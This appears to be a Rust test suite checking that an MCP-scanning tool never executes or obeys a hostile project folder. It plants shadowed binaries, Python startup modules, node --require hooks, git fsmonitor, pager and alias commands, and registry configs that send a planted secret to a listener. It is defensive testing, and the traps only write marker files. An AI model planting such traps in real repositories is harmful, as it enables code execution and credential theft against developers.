//! A checkout full of traps: programs, modules and configurations that would run or send something if the folder that is
//! looked at were more than data. Every command is run in it; none may leave a mark or reach the listener.
#![cfg(unix)]

use crate::support::binary::{Ran, User, ran};
use crate::support::mirror::Mirror;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

const CONFIG: &str = r#"{"mcpServers":{"pots":{"command":"uvx","args":["kiln-mcp"]},"glaze":{"command":"npx","args":["-y","@clay/kiln"]},
    "wheel":{"type":"http","url":"https://wheel.example/mcp?k=${PLANTED_SECRET}","headers":{"X-Key":"${PLANTED_SECRET}"}}}}"#;
const SERVER: &str = "from mcp.server.fastmcp import FastMCP\nmcp = FastMCP('kiln')\n\n@mcp.tool()\ndef fire() -> str:\n    \
    \"\"\"Fire the kiln.\"\"\"\n    return 'hot'\n\nif __name__ == '__main__':\n    mcp.run()\n";

/// Names of programs that mcpdex may start, or that those may start.
const PROGRAMS: [&str; 16] = [
    "npm", "npx", "node", "pip", "pip3", "python", "python3", "uv", "uvx", "git", "cargo", "bwrap", "sh", "env",
    "true", "mcpdex",
];

struct Checkout {
    user: User,
    /// The checkout itself.
    folder: PathBuf,
    /// Where the traps leave their marks.
    marks: PathBuf,
    /// What all planted configurations name.
    listener: Mirror,
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn program(path: &Path, script: &str) {
    write(path, &format!("#!/bin/sh\n{script}\n"));
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn checkout() -> Checkout {
    let user = User::new();
    let root = user.home().canonicalize().unwrap();
    let (folder, marks) = (root.join("code/kiln"), root.join("marks"));
    std::fs::create_dir_all(&marks).unwrap();
    let listener = Mirror::start();
    let (address, m) = (listener.url("/").to_string(), marks.display());
    let host = address.trim_start_matches("http:").to_owned();
    for name in PROGRAMS {
        for place in ["", "node_modules/.bin/", ".venv/bin/"] {
            program(
                &folder.join(format!("{place}{name}")),
                &format!("echo x > '{m}/{}{name}'", place.replace('/', "-")),
            );
        }
    }
    let python = |mark: &str| format!("open('{m}/{mark}', 'w').write('x')\n");
    write(&folder.join("pip.py"), &python("pip.py"));
    write(&folder.join("sitecustomize.py"), &python("sitecustomize.py"));
    write(&folder.join("usercustomize.py"), &python("usercustomize.py"));
    write(&folder.join("site/pip/__init__.py"), &python("pip-init"));
    write(&folder.join("site/pip/__main__.py"), &python("pip-main"));
    write(&folder.join("load.js"), &format!("require('fs').writeFileSync('{m}/load.js', 'x')\n"));
    write(
        &folder.join(".npmrc"),
        &format!(
            "registry={address}${{PLANTED_SECRET}}/\n@clay:registry={address}${{PLANTED_SECRET}}/\n{host}:_authToken=${{PLANTED_SECRET}}\nnode-options=--require ./load.js\n"
        ),
    );
    write(&folder.join("package.json"), r#"{"name":"kiln","version":"1.0.0"}"#);
    for file in ["pip.conf", ".pip/pip.conf", "pip.ini", ".venv/pip.conf", ".config/pip/pip.conf"] {
        write(&folder.join(file), &format!("[global]\nindex-url = {address}simple\n"));
    }
    for file in ["uv.toml", ".config/uv/uv.toml"] {
        write(&folder.join(file), &format!("index-url = \"{address}simple\"\n"));
    }
    write(
        &folder.join("pyproject.toml"),
        &format!(
            "[project]\nname = \"kiln\"\nversion = \"1\"\n[[tool.uv.index]]\nurl = \"{address}simple\"\ndefault = true\n"
        ),
    );
    for file in ["mcpdex.toml", ".mcpdex.toml", ".config/mcpdex/mcpdex.toml"] {
        write(&folder.join(file), &format!("npm-registry = \"{address}\"\npypi-index = \"{address}simple\"\n"));
    }
    write(
        &folder.join(".cargo/config.toml"),
        &format!("[registries.x]\nindex = \"sparse+{address}\"\n[build]\nrustc-wrapper = \"./sh\"\n"),
    );
    program(&folder.join(".git/hooks/post-checkout"), &format!("echo x > '{m}/hook'"));
    write(&folder.join(".git/HEAD"), "ref: refs/heads/main\n");
    std::fs::create_dir_all(folder.join(".git/objects")).unwrap();
    std::fs::create_dir_all(folder.join(".git/refs")).unwrap();
    write(
        &folder.join(".git/config"),
        &format!(
            "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = echo x > '{m}/fsmonitor'; false\n\tpager = echo x > '{m}/pager'\n[alias]\n\tstatos = !echo x > '{m}/alias'\n[url \"{address}\"]\n\tinsteadOf = https://\n"
        ),
    );
    write(&folder.join(".mcp.json"), CONFIG);
    write(&folder.join("server.py"), SERVER);
    write(
        &folder.join("tools.json"),
        r#"{"server":"npm:@clay/kiln","tools":[{"name":"fire","description":"Fire the kiln."}]}"#,
    );
    Checkout { user, folder, marks, listener }
}

impl Checkout {
    /// The programs of the user: clients that know no registry, and a real Python without pip's help.
    fn clients(&self) -> PathBuf {
        let folder = self.user.home().canonicalize().unwrap().join("bin");
        let log = self.user.home().join("asked");
        for name in ["npm", "pip", "pip3"] {
            program(
                &folder.join(name),
                &format!(
                    "echo \"{name} $* in $PWD with $(pwd) and [$PYTHONPATH$NODE_OPTIONS$NODE_PATH] on $PATH\" >> '{}'\ncase $1 in config) echo undefined;; --version) echo 99;; *) exit 1;; esac",
                    log.display()
                ),
            );
        }
        folder
    }

    /// The binary in the checkout, in a shell where everything that leads into it is on some path.
    fn command(&self, words: &[&str]) -> Command {
        let at = |name: &str| self.folder.join(name).display().to_string();
        let path = [".", "", "node_modules/.bin", &at(""), &at("node_modules/.bin"), &at(".venv/bin")].join(":");
        let mut command = self.user.command(words);
        command.current_dir(&self.folder).env("PATH", format!("{path}:{}", self.clients().display()));
        command.env("PLANTED_SECRET", "planted-secret").env("VIRTUAL_ENV", at(".venv")).env("PWD", at(""));
        for (name, value) in [
            ("PYTHONPATH", ".:site".to_owned()),
            ("PYTHONHOME", String::new()),
            ("NODE_PATH", at("")),
            ("NODE_OPTIONS", format!("--require {}", at("load.js"))),
            ("PIP_CONFIG_FILE", "pip.conf".to_owned()),
            ("npm_config_userconfig", at(".npmrc")),
            ("GIT_DIR", at(".git")),
            ("CARGO_HOME", at(".cargo")),
            ("UV_CONFIG_FILE", at("uv.toml")),
        ] {
            command.env(name, value);
        }
        command
    }

    fn run(&self, words: &[&str]) -> Ran {
        ran(self.command(words).output().unwrap())
    }

    fn sprung(&self) -> Vec<String> {
        let mut marks: Vec<String> = std::fs::read_dir(&self.marks)
            .unwrap()
            .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        marks.sort();
        marks
    }
}

#[test]
fn no_command_runs_or_obeys_what_lies_in_the_folder_that_it_looks_at() {
    let checkout = checkout();
    for words in [
        &["scan"][..],
        &["scan", ".mcp.json"],
        &["scan", "--json", "--live", "."],
        &["crawl", ".mcp.json"],
        &["crawl", "--refresh", "0s", "--json", "."],
        &["crawl", "--refresh", "0s", "clients"],
        &["crawl", "--refresh", "0s", "--source", "npm:@clay/kiln", "pypi:kiln-mcp"],
        &["crawl", "--refresh", "0s", "--run", "npm:@clay/kiln", "pypi:kiln-mcp"],
        &["pin", ".mcp.json"],
        &["check", ".mcp.json"],
        &["policy", "--lossy", "--target", "claude-code", "--clients", ".mcp.json"],
        &["extract", "."],
        &["extract", "npm:@clay/kiln"],
        &["extract", "pypi:kiln-mcp"],
        &["extract", "github:clay/kiln"],
        &["extract", "crate:kiln"],
        &["probe", "--run", "--", "npx", "-y", "@clay/kiln"],
        &["probe", "--run", "--", "uvx", "kiln-mcp"],
        &["doctor", "--online"],
    ] {
        let ran = checkout.run(words);
        assert_eq!(checkout.sprung(), Vec::<String>::new(), "{words:?}: {}{}", ran.out, ran.err);
        assert_eq!(checkout.listener.targets(), Vec::<String>::new(), "{words:?}: {}{}", ran.out, ran.err);
        assert!(!format!("{}{}", ran.out, ran.err).contains("planted-secret"), "{words:?}: {}{}", ran.out, ran.err);
    }
    let asked = std::fs::read_to_string(checkout.user.home().join("asked")).unwrap();
    assert!(
        asked.contains("npm config get") && asked.contains("pip --version"),
        "the user's own clients are asked: {asked}"
    );
    for line in asked.lines() {
        assert!(line.contains("and [] on") && !line.contains("code/kiln"), "{line}");
    }
    let database = std::fs::read(checkout.user.database()).unwrap();
    assert!(!String::from_utf8_lossy(&database).contains("planted-secret"));
}

#[test]
fn a_folder_that_is_named_from_elsewhere_is_data_as_well() {
    let checkout = checkout();
    let inside = checkout.folder.display().to_string();
    for words in
        [&["scan", &inside][..], &["crawl", &inside], &["pin", &inside, "--lock", "x.lock"], &["extract", &inside]]
    {
        let ran = ran(checkout.command(words).current_dir(checkout.user.home()).output().unwrap());
        assert_eq!(checkout.sprung(), Vec::<String>::new(), "{words:?}: {}{}", ran.out, ran.err);
        assert_eq!(checkout.listener.targets(), Vec::<String>::new(), "{words:?}: {}{}", ran.out, ran.err);
    }
}

/// A real Python: the first outside of any folder of ours.
fn real_python() -> Option<PathBuf> {
    ["/usr/bin/python3", "/usr/local/bin/python3"].map(PathBuf::from).into_iter().find(|path| path.is_file())
}

#[test]
fn python_is_asked_for_pip_without_the_modules_of_the_folder() {
    let checkout = checkout();
    let Some(python) = real_python() else {
        eprintln!("skipped: there is no python3 in the system's folders");
        return;
    };
    // The user's Python, told an index that is on this machine alone, so that nothing leaves it.
    let index = Mirror::start();
    let bin = checkout.user.home().canonicalize().unwrap().join("python");
    let asked = checkout.user.home().join("python-asked");
    program(
        &bin.join("python3"),
        &format!(
            "echo \"$* in $(pwd)\" >> '{}'\nPIP_INDEX_URL={} PIP_CONFIG_FILE=/dev/null exec {} \"$@\"",
            asked.display(),
            index.url("/simple"),
            python.display()
        ),
    );
    for words in [["scan", ".mcp.json"], ["crawl", ".mcp.json"], ["pin", ".mcp.json"]] {
        let path = format!(".:{}", bin.display());
        let ran = ran(checkout.command(&words).env("PATH", &path).output().unwrap());
        assert_eq!(checkout.sprung(), Vec::<String>::new(), "{words:?}: {}{}", ran.out, ran.err);
    }
    let asked = std::fs::read_to_string(asked).unwrap();
    for line in asked.lines() {
        assert!(line.starts_with("-I -m pip ") && !line.contains("code/kiln"), "{line}");
    }
    assert!(!asked.is_empty(), "it was asked");
}

#[test]
fn the_users_own_settings_hold_in_such_a_folder_and_may_use_variables() {
    let checkout = checkout();
    let own = Mirror::start();
    let (address, home) = (own.url("/").to_string(), checkout.user.home());
    let host = address.trim_start_matches("http:");
    write(
        &home.join(".npmrc"),
        &format!("registry={address}${{PLANTED_SECRET}}/\n{host}:_authToken=${{PLANTED_SECRET}}\n"),
    );
    write(&home.join(".config/pip/pip.conf"), &format!("[global]\nindex-url = {address}planted-path/simple\n"));
    let scan = checkout.command(&["scan", "--json", ".mcp.json"]).env_remove("npm_config_userconfig").output();
    let scan = ran(scan.unwrap());
    let targets = own.targets();
    assert!(targets.contains(&"/planted-secret/@clay%2Fkiln".to_owned()), "{targets:?}");
    assert!(targets.contains(&"/planted-path/simple/kiln-mcp/".to_owned()), "{targets:?}");
    assert!(own.asked().iter().any(|a| a.headers.get("authorization").is_some_and(|h| h == "Bearer planted-secret")));
    assert_eq!(checkout.listener.targets(), Vec::<String>::new());
    // Where they lead is told without what the variables held.
    let database = String::from_utf8_lossy(&std::fs::read(checkout.user.database()).unwrap()).into_owned();
    for text in [&scan.out, &scan.err, &database] {
        assert!(!text.contains("planted-"), "{text}");
    }
    assert!(scan.out.contains("/…/@clay%2Fkiln: status 404"), "{}", scan.out);
}

#[test]
fn the_traps_are_live() {
    let checkout = checkout();
    let start = |words: &[&str]| {
        let (first, rest) = words.split_first().unwrap();
        let mut command = Command::new(first);
        command.args(rest).current_dir(&checkout.folder).env_clear().env("HOME", checkout.user.home());
        command.env("PATH", "/usr/local/bin:/usr/bin:/bin");
        command
    };
    for name in PROGRAMS {
        for place in ["", "node_modules/.bin/", ".venv/bin/"] {
            start(&[&format!("./{place}{name}")]).status().unwrap();
            let mark = format!("{}{name}", place.replace('/', "-"));
            assert!(checkout.sprung().contains(&mark), "{place}{name} leaves no mark");
        }
    }
    // A shell finds them by name where the present folder is on its path.
    std::fs::remove_file(checkout.marks.join("npm")).unwrap();
    start(&["/bin/sh", "-c", "npm"]).env("PATH", ".").status().unwrap();
    assert!(checkout.sprung().contains(&"npm".to_owned()));
    if let Some(python) = real_python().as_deref().and_then(Path::to_str) {
        start(&[python, "-m", "pip"]).output().unwrap();
        start(&[python, "-c", ""]).env("PYTHONPATH", ".").output().unwrap();
        start(&[python, "-m", "pip"])
            .env("PYTHONPATH", "site")
            .current_dir("/")
            .env("PYTHONPATH", checkout.folder.join("site"))
            .output()
            .unwrap();
        for mark in ["pip.py", "sitecustomize.py", "pip-init", "pip-main"] {
            assert!(checkout.sprung().contains(&mark.to_owned()), "{mark} leaves no mark");
        }
    } else {
        eprintln!("skipped: the modules, since there is no python3 in the system's folders");
    }
    match start(&["git", "statos"]).output() {
        Ok(_) => {
            start(&["git", "status"]).output().unwrap();
            start(&[".git/hooks/post-checkout"]).status().unwrap();
            for mark in ["alias", "fsmonitor", "hook"] {
                assert!(checkout.sprung().contains(&mark.to_owned()), "{mark} leaves no mark");
            }
        }
        Err(_) => eprintln!("skipped: git's configuration, since there is no git"),
    }
    match start(&["npm", "config", "get", "registry"]).env("PLANTED_SECRET", "planted-secret").output() {
        Ok(told) => {
            let told = String::from_utf8_lossy(&told.stdout).into_owned();
            assert!(told.contains("planted-secret") && told.contains(checkout.listener.url("/").as_str()), "{told}");
        }
        Err(_) => eprintln!("skipped: the project's .npmrc, since there is no npm"),
    }
    std::net::TcpStream::connect(("127.0.0.1", checkout.listener.url("/").port().unwrap()))
        .and_then(|mut stream| {
            std::io::Write::write_all(&mut stream, b"GET /x HTTP/1.1\r\n\r\n")?;
            std::io::Read::read(&mut stream, &mut [0; 1])
        })
        .unwrap();
    // npm may have asked it as well: it was told to.
    assert!(checkout.listener.targets().contains(&"/x".to_owned()));
}
